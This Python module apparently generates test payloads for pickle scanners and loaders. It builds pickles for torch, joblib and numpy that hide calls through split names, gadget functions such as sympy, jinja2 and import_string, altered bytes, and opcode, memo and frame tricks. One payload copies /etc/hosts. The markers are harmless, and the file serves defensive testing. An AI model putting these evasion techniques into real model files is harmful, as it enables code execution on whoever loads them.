"""Payloads from a reviewer who knew how the pickles are read: names that are cut at another dot, functions that find
others by name, bytes that are computed, and opcodes, frames and memos that two readers may understand differently."""

import struct
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from tools.payloads import functions
from tools.payloads.containers import LOAD, Payload, legacy, npy, torch_zip
from tools.payloads.pickle_code import Built, Call, Code, Filled, Kept, Name, Steps, call, encoded, name, pickled
from tools.payloads.tricks import HOOKS

Make = Callable[[str], Any]
SUFFIXES = {"torch.load": ".pt", "joblib.load": ".joblib", "numpy.load": ".npy"}


def payloads() -> Iterator[Payload]:
    for label, (data, loader) in _SPLIT.items():
        yield payload(f"storage._load_from_bytes in torch, {label}", "odd names", loader, data)
    for module, dotted in _THROUGH_MODULES:

        def through(marker: str, module: str = module, dotted: str = dotted) -> bytes:
            return pickled(call(Name(module, dotted), marker), 4)

        yield payload(f"{module} {dotted}", "odd names", "pickle.load", through)
    for mechanism, values in _FUNCTIONS.items():
        for value in values:

            def called(marker: str, value: Any = value) -> bytes:
                return pickled(functions.with_marker(value, marker), 4)

            yield payload(functions.label(value), mechanism, "pickle.load", called)
    for label, (make, loader) in _HARMLESS.items():

        def harmless(marker: str, make: Make = make, loader: str = loader) -> bytes:
            return torch_zip(pickled(make(marker), 2)) if loader == "torch.load" else pickled(make(marker), 4)

        yield payload(label, "names that count as harmless", loader, harmless)
    for label, (data, loader) in _OPCODES.items():
        yield payload(label, "opcodes", loader, data)


def payload(label: str, mechanism: str, loader: str, data: Callable[[str], bytes], suffix: str = "") -> Payload:
    """A payload that is one file with these bytes."""

    def write(path: Path, marker: str) -> None:
        path.write_bytes(data(marker))

    return Payload(label, mechanism, loader, suffix or SUFFIXES.get(loader, ".pkl"), write)


# -- the calls ---------------------------------------------------------------------------------------------------


def folder(marker: str) -> Call:
    return call("posix:mkdir", marker)


def folder_bytes(marker: str, protocol: int = 2) -> bytes:
    return pickled(folder(marker), protocol)


def text(value: str) -> bytes:
    """The opcodes of a text."""
    return encoded(value, 2)


def u32(number: int) -> bytes:
    return struct.pack("<I", number)


def u64(number: int) -> bytes:
    return struct.pack("<Q", number)


# What a file of PyTorch before 1.6 begins with.
LEGACY_START = legacy(b"|", 3).partition(b"|")[0]

# A number so long that a reader may stop before it.
LONG_NUMBER = b"\x8b" + u32(2000) + b"\x01" * 2000 + b"0"


# -- names and functions -----------------------------------------------------------------------------------------


def _split(marker: str) -> Call:
    """The usual function of torch, whose name is cut at another dot than usual."""
    return call(Name("torch", "storage._load_from_bytes"), folder_bytes(marker, 0))


_SPLIT: dict[str, tuple[Callable[[str], bytes], str]] = {
    "pickle.load": (lambda m: pickled({"w": 1, "x": _split(m)}, 4), "pickle.load"),
    "torch zip": (lambda m: torch_zip(pickled({"w": 1, "x": _split(m)}, 4)), "torch.load"),
    "torch before 1.6": (lambda m: legacy(pickled({"x": _split(m)}, 4)), "torch.load"),
    "joblib": (lambda m: pickled({"x": _split(m)}, 4), "joblib.load"),
    ".npy": (lambda m: npy("'|O'", "(1,)", pickled([_split(m)], 4)), "numpy.load"),
}

_THROUGH_MODULES = (
    ("torch.nn.modules.activation", "F.torch.os.mkdir"), ("torch.nn", "modules.activation.F.torch.os.mkdir"),
    ("torch", "nn.modules.module.torch.os.mkdir"), ("torch.optim.swa_utils", "torch.os.mkdir"),
    ("torch._utils", "torch.os.mkdir"), ("torch.storage", "torch.os.mkdir"), ("joblib.numpy_pickle", "os.mkdir"),
    ("pathlib", "PosixPath.mkdir"), ("lightning.fabric.utilities.data", "os.mkdir"),
)  # fmt: skip


def _files(method: str, *args: Any) -> Call:
    system = "fsspec.implementations.local:LocalFileSystem"
    return call(f"{system}.{method}", call(system), *args)


def _of_type(attributes: dict[str, Any]) -> Call:
    return call("builtins:type", "T", (), attributes)


_MKDIR = name("posix:mkdir")
_OPEN = "open('MARKER', 'w')"
_GLOBALS_OF_TEMPLATE = "{{ self.__init__.__globals__.__builtins__.open('MARKER', 'w') }}"
_FUNCTIONS: dict[str, list[Call]] = {
    "functions that run code": [
        call("sympy:S", _OPEN), call("sympy:simplify", _OPEN), call("sympy:expand", _OPEN),
        call("builtins:list", call("jinja2:Template.generate", call("jinja2:Template", _GLOBALS_OF_TEMPLATE))),
        call("typing:get_type_hints", _of_type({"__annotations__": {"a": _OPEN}})),
    ],
    "functions that write files": [
        _files("pipe", "MARKER", b""), _files("copy", "/etc/hosts", "MARKER"),
    ],
    "functions that call others": [
        call(call("torch._utils:_import_dotted_name", "os.mkdir"), "MARKER"),
        call(call("traitlets:import_item", "os.mkdir"), "MARKER"),
        call("toolz:pipe", "MARKER", call("torch._utils:_import_dotted_name", "os.mkdir")),
        call(call("werkzeug.utils:import_string", "os:mkdir"), "MARKER"),
        call("lightning.pytorch.cli:instantiate_class", "MARKER", {"class_path": "os.mkdir"}),
        call(call("importlib_metadata:EntryPoint.load", call(
            "importlib_metadata:EntryPoint", "a", "os:mkdir", "b")), "MARKER"),
        call(call("builtins:max", [_MKDIR]), "MARKER"),
        call("torch._tensor:_rebuild_from_type_v2", call("builtins:max", [_MKDIR]), name("builtins:type"), (
            "MARKER",), None),
    ],
}  # fmt: skip


# -- names that count as harmless --------------------------------------------------------------------------------


def _annotated(marker: str) -> dict[str, Any]:
    """The attributes of a dataclass whose annotation is code."""
    return {"__dataclass_fields__": {}, "__annotations__": {"a": f"open({marker!r}, 'w')"}}


def _annotated_layer(marker: str) -> Steps:
    layer = name("torch.nn.modules.linear:Identity")
    attributes = call(
        "torch._tensor:_rebuild_from_type_v2", name("builtins:max"), name("builtins:type"), ([layer],),
        _annotated(marker))  # fmt: skip
    return Steps((attributes, call("omegaconf.dictconfig:DictConfig", layer)))


def _shared_bytes(marker: str) -> Steps:
    """Good bytes in an array, which then gets other bytes."""
    count = 600
    storage = Code(encoded(("storage", name("torch:ByteStorage"), "0", "cpu", count, None), 2) + b"Q")
    good = LEGACY_START + pickled(storage, 2) + pickled(["0"], 2) + u64(count) + bytes(count)
    dtype = call("numpy:dtype", f"S{len(good)}", False, True)
    array = call("numpy._core.numeric:_frombuffer", Kept(1), dtype, (1,), "C")
    changed = Code(encoded(array, 4) + b"K\0" + encoded(folder_bytes(marker, 0), 4) + b"s")
    return Steps((Kept(1, call("builtins:bytearray", good)), changed, call(LOAD, Kept(1))))


def _filled_later(marker: str) -> Steps:
    """A Sequential that already has its items when one of them becomes a function."""
    hooks: dict[str, Any] = {hook: {} for hook in HOOKS}
    made = Call(name("torch.nn.modules.container:Sequential"), (), "new")
    return Steps((
        LOAD, Kept(1, {"0": 1}), Kept(2, Built(made, {**hooks, "_modules": Kept(1)})), Filled(Kept(1), {"0": LOAD}),
        Kept(1, None), call("torch._tensor:_rebuild_from_type_v2", Kept(2), name("builtins:type"), (
            folder_bytes(marker, 0),), None), Kept(2, None), None,
    ))  # fmt: skip


def _array_of_bytes(marker: str) -> Call:
    data = folder_bytes(marker, 0)
    dtype = call("numpy:dtype", "u1", False, True)
    return call("numpy._core.numeric:_frombuffer", data, dtype, (len(data),), "C")


_HARMLESS: dict[str, tuple[Make, str]] = {
    "DictConfig of a class with code as an annotation": (lambda m: {"config": call(
        "omegaconf.dictconfig:DictConfig", _of_type(_annotated(m)))}, "torch.load"),
    "ListConfig of a class with code as an annotation": (lambda m: {"config": call(
        "omegaconf.listconfig:ListConfig", [_of_type(_annotated(m))])}, "torch.load"),
    "DictConfig of a dict of a class with code as an annotation": (lambda m: {"config": call(
        "omegaconf.dictconfig:DictConfig", {"a": _of_type(_annotated(m))})}, "torch.load"),
    "DictConfig of a layer's class that gets annotations": (_annotated_layer, "torch.load"),
    "_load_from_bytes with a bytearray that an array changes": (_shared_bytes, "pickle.load"),
    "_load_from_bytes with a bytearray that an array changes, torch zip": (_shared_bytes, "torch.load"),
    "_load_from_bytes in a Sequential, put there later": (_filled_later, "pickle.load"),
    "_load_from_bytes from max": (lambda m: call(call("builtins:max", [LOAD]), folder_bytes(m, 0)), "pickle.load"),
    "_load_from_bytes with the bytes of a path": (lambda m: call(LOAD, call("builtins:bytes", call(
        "pathlib:PosixPath", folder_bytes(m, 0).decode()))), "pickle.load"),
    "_load_from_bytes with the larger of two bytes": (lambda m: call(LOAD, call(
        "builtins:max", [folder_bytes(m, 0), b""])), "pickle.load"),
    "_load_from_bytes with the bytes of a text": (lambda m: call(LOAD, call("builtins:bytes", call(
        "builtins:str", folder_bytes(m, 0).decode()), "ascii")), "pickle.load"),
    "_load_from_bytes with a bytearray that grows": (lambda m: call(LOAD, Filled(call(
        "builtins:bytearray", folder_bytes(m, 0)[:-1]), [ord(".")])), "pickle.load"),
    "_load_from_bytes with an array of bytes": (lambda m: call(LOAD, _array_of_bytes(m)), "pickle.load"),
}  # fmt: skip


# -- opcodes -----------------------------------------------------------------------------------------------------


def _folder_opcodes(marker: str) -> bytes:
    return text("posix") + text("mkdir") + b"\x93" + text(marker) + b"\x85R"


def _between(before: bytes, after: bytes = b".", start: bytes = b"\x80\x04") -> Callable[[str], bytes]:
    """A call with opcodes before and after it."""
    return lambda marker: start + before + _folder_opcodes(marker) + after


def _in_torch_zip(data: Callable[[str], bytes]) -> Callable[[str], bytes]:
    return lambda marker: torch_zip(data(marker))


def _after_hooks(memoized: tuple[str, ...], get: bytes) -> Callable[[str], bytes]:
    """Texts that MEMOIZE adds after the empty hooks of a layer, one of which replaces a memo entry that was written
    ahead of its turn."""
    start = text("collections") + text("OrderedDict") + b"\x93q\x000" + text("x") + b"q\x010"
    ahead = text("far") + b"r" + u32(3) + b"0"
    hooks = b"}(" + b"".join(b"h\x01h\x00)Rr" + u32(number) for number in (2, 3)) + b"u0"
    texts = b"".join(text(one) + b"\x940" for one in memoized)
    return lambda marker: b"\x80\x04" + start + ahead + hooks + texts + get + b"\x93" + text(marker) + b"\x85R."


_NAMES_AFTER_HOOKS = _after_hooks(("a", "collections", "posix", "OrderedDict", "mkdir"), b"h\x06h\x08")


def _two_names(marker: str) -> bytes:
    """The names of the first pickle stay in the memo, and the second one seems to write its own."""
    first = b"\x80\x04" + text("posix") + b"\x940" + text("mkdir") + b"\x940N."
    names = text("collections") + b"\x940" + text("OrderedDict") + b"\x940h\0h\1\x93"
    return first + b"\x80\x04" + names + text(marker) + b"\x85R."


def _long_frame(padding: int) -> Callable[[str], bytes]:
    """A frame that reaches into the second pickle; `pickle.load` continues where the frame ends."""

    def data(marker: str) -> bytes:
        hidden = folder_bytes(marker)
        second = b"\x80\x04B" + u32(padding + len(hidden)) + bytes(padding)
        return b"\x80\x04\x95" + u64(2 + len(second)) + b"N." + second + hidden + b"."

    return data


_NUMBER_IN_BASE_16 = _between(b"I0x10\n0")
_NUMBER_OF_1100_BYTES = _between(b"\x8b" + u32(1100) + b"\1" * 1100 + b"0")
_OPCODES: dict[str, tuple[Callable[[str], bytes], str]] = {
    "memo of the pickle before, with names that MEMOIZE adds": (_two_names, "pickle.Unpickler, repeatedly"),
    "empty hooks, then entries of MEMOIZE": (_after_hooks(("posix", "mkdir"), b"h\x04h\x05"), "pickle.load"),
    "empty hooks, then names of MEMOIZE that two readers number differently": (_NAMES_AFTER_HOOKS, "pickle.load"),
    "empty hooks, then names of MEMOIZE that two readers number differently, torch zip": (
        _in_torch_zip(_NAMES_AFTER_HOOKS), "torch.load"),
    "empty hooks that call a function": (lambda m: b"\x80\x04" + text("posix") + text("mkdir") + b"\x93q\x000" + text(
        m) + b"q\x010}(h\x01h\x00h\x01\x85Rr" + u32(2) + b"u.", "pickle.load"),
    "frame that is too long, with 10 KB of the next pickle": (_long_frame(10_000), "pickle.load, repeatedly"),
    "frame that is too long, with 200 KB of the next pickle": (_long_frame(200_000), "pickle.load, repeatedly"),
    "INT with a leading zero": (_between(b"I010\n0"), "pickle.load"),
    "INT in base 16": (_NUMBER_IN_BASE_16, "pickle.load"),
    "INT in base 16, torch zip": (_in_torch_zip(_NUMBER_IN_BASE_16), "torch.load"),
    "LONG in base 8": (_between(b"L0o10L\n0"), "pickle.load"),
    "a number of 1,100 bytes": (_NUMBER_OF_1100_BYTES, "pickle.load"),
    "a number of 1,100 bytes, torch zip": (_in_torch_zip(_NUMBER_OF_1100_BYTES), "torch.load"),
    "POP of a MARK above a value": (_between(b"K\1(0", b"0."), "pickle.load"),
    "DUP of the result": (_between(b"", b"2."), "pickle.load"),
    "a name across the first megabyte": (_between(
        b"B" + u32((1 << 20) - 20) + bytes((1 << 20) - 20) + b"0"), "pickle.load"),
    "a name across the first megabyte, after many values": (_between(b"N0" * ((1 << 19) - 7)), "pickle.load"),
    "a text of 1.5 MB without PROTO": (_between(b"V" + b"a" * 1_500_000 + b"\n0", start=b""), "pickle.load"),
    "BUILD of None": (_between(b"", b"Nb."), "pickle.load"),
    "in a set": (_between(b"\x8f(", b"\x90."), "pickle.load"),
    "in a frozenset": (_between(b"(", b"\x91."), "pickle.load"),
    "in an item of a list": (_between(b"]K\1aK\0", b"s."), "pickle.load"),
    "NEXT_BUFFER after the call": (_between(b"", b"0\x97.", b"\x80\x05"), "pickle.load"),
    "MEMOIZE in a MARK": (lambda m: b"\x80\x04" + text("posix") + b"\x94(" + text("mkdir") + b"\x94h\0h\1\x93" + text(
        m) + b"\x85R01.", "pickle.load"),
}  # fmt: skip
